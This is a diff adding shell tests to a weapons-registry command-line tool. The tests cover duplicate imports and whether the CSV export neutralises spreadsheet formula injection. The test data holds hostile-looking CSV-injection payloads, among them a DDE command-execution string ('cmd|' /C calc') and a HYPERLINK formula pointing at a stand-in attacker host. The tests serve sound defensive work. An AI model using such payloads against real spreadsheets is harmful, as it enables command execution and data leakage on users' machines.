@@ -128,6 +128,11 @@ expect_eq "the second row is the duplicate" "$(jget '.errors[0].line, .errors[0]
 expect_eq "nothing written" "$(events $DB)" "$before"
 expect_exit 2 "--dry-run finds duplicates inside the file too" "$WAM" --db $DB import dup.csv --dry-run
 expect_contains "and names the registered one" "$ERR" "line 3, column serial: duplicate candidate"
+# --allow-duplicates records them knowingly (it was once reset for every CSV row)
+expect_exit 0 "import --allow-duplicates takes a file of known duplicates" "$WAM" --db $DB --json import dup.csv --allow-duplicates
+expect_eq "both rows are imported" "$(jget .imported)" 2
+run "$WAM" --db $DB --json item show --serial SW-100
+expect_eq "the second is recorded as a duplicate of the first" "$(printf '%s' "$OUT" | jq -r '[.[] | .duplicate_of | length] | sort | join(",")')" "0,1"
 
 # ---- a marking error names the marking (docs/formats/items-csv.md) ----
 cat >mark.csv <<'EOF'
@@ -163,6 +168,33 @@ expect_eq "one record per weapon" "$(grep -c '^[0-9A-Z]\{26\},' a.csv)" "$("$WAM
 expect_exit 0 "the export imports into a new registry" "$WAM" --db b.db import a.csv
 "$WAM" --db b.db export --format csv >b.csv
 expect_same_file "export -> import -> export gives the same CSV" a.csv b.csv
+
+# ---- a spreadsheet opening the CSV runs nothing, and the values come back exactly ----
+"$WAM" --db f.db init --country HT >/dev/null
+"$WAM" --db f.db item add --category SA1 --make '@SUM(1+1)' --model "-2+3+cmd|' /C calc'!A0" --calibre "'quoted" \
+	--serial '=HYPERLINK("http://evil.example/?x","click")' --country US --notes "$(printf '\tTAB +x')" >/dev/null
+"$WAM" --db f.db item add --category SA1 --make "''two" --model -12 --serial -AB12 --country US \
+	--notes "$(printf '+1\r\nsecond line')" >/dev/null
+"$WAM" --db f.db export --format csv --out f.csv
+# every value cell: none may begin with = + @ TAB CR, nor - unless a plain negative number
+risky=$(python3 -c '
+import csv, re, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))[1:]
+print(sum(1 for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r") or
+          (c[:1] == "-" and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", c))))' f.csv)
+expect_eq "no exported cell begins as a formula" "$risky" 0
+expect_contains "a formula serial is written with an apostrophe" "$(cat f.csv)" "\"'=HYPERLINK("
+expect_contains "a value beginning with an apostrophe gets one more" "$(cat f.csv)" ",''quoted,"
+expect_contains "a negative number is left as it is" "$(cat f.csv)" ",'''two,-12,"
+"$WAM" --db g.db init --country HT >/dev/null
+expect_exit 0 "the neutralised export imports" "$WAM" --db g.db import f.csv
+"$WAM" --db g.db export --format csv --out g.csv
+expect_same_file "export -> import -> export of formula-like values gives the same CSV" f.csv g.csv
+for field in make model calibre serial notes; do
+	expect_eq "the $field values come back byte for byte" \
+		"$("$WAM" --db g.db --json item list | jq -c "[.items[] | .$field]")" \
+		"$("$WAM" --db f.db --json item list | jq -c "[.items[] | .$field]")"
+done
 
 # ---- JSON round trip (sites, holders, weapons) ----
 "$WAM" --db j.db init --country HT >/dev/null
